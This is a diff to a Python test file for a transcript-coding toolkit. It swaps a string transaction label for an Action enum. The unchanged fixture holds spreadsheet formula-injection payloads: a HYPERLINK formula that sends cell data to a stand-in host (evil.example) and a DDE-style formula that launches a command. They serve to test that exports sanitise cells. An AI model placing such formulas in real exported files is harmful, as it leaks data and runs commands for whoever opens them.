@@ -13,6 +13,7 @@ from toolkit import project as proj
 from toolkit.export import export_csv, export_xlsx
 from toolkit.safeio import atomic_output, safe_cell, save_atomic, write_csv
 from toolkit.store import core as db
+from toolkit.store.events import Action
 
 QUOTE = '=HYPERLINK("http://evil.example/?s="&A1,"click")'
 ATTR = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -28,7 +29,7 @@ def hostile(tmp_path):
     (d / "people.csv").write_text(f'id,group,setting\nP01,"{ATTR}",-rural\n', encoding="utf-8")
     p = proj.create(tmp_path / "h.fa")
     proj.import_transcripts(p, d / "P01_x.txt", attributes=d / "people.csv")
-    with p.transaction("test.coding") as s:
+    with p.transaction(Action.CODING_ADD) as s:
         tr = db.transcript_by_name(s, "P01_x.txt")
         start = tr.text.index(QUOTE)
         db.add_coding(s, transcript_id=tr.id, start=start, end=start + len(QUOTE),
